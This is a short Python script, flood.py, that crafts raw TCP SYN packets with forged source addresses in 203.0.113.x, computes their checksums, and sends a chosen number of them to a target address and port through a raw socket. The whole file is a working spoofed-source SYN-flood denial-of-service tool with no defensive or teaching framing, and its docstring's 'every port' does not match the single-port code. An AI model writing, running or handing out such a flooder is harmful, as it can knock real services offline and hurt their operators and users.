"""A flood of TCP SYN packets from addresses that answer nothing.

    flood.py ADDRESS PORT COUNT    from 203.0.113.128 to 203.0.113.254, every port; a fixed seed
"""

import random
import socket
import struct
import sys

LENGTH = 40


def folded(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def summed(data):
    return folded(sum(struct.unpack(f"!{len(data) // 2}H", data)))


def syn(source, destination, port, chance):
    tcp = struct.pack("!2H2I2B3H", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0,
                      5 << 4, 2, 65535, 0, 0)
    pseudo = source + destination + struct.pack("!2H", socket.IPPROTO_TCP, len(tcp))
    checksum = 0xFFFF ^ summed(pseudo + tcp)
    # The kernel fills in the IP header's own checksum.
    header = struct.pack("!2B3H2BH", 0x45, 0, LENGTH, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return header + source + destination + tcp[:16] + struct.pack("!H", checksum) + tcp[18:]


def flood(address, port, count):
    chance = random.Random(20266)
    destination = socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        for _ in range(count):
            source = socket.inet_aton(f"203.0.113.{chance.randrange(128, 255)}")
            sender.sendto(syn(source, destination, port, chance), (address, 0))


flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
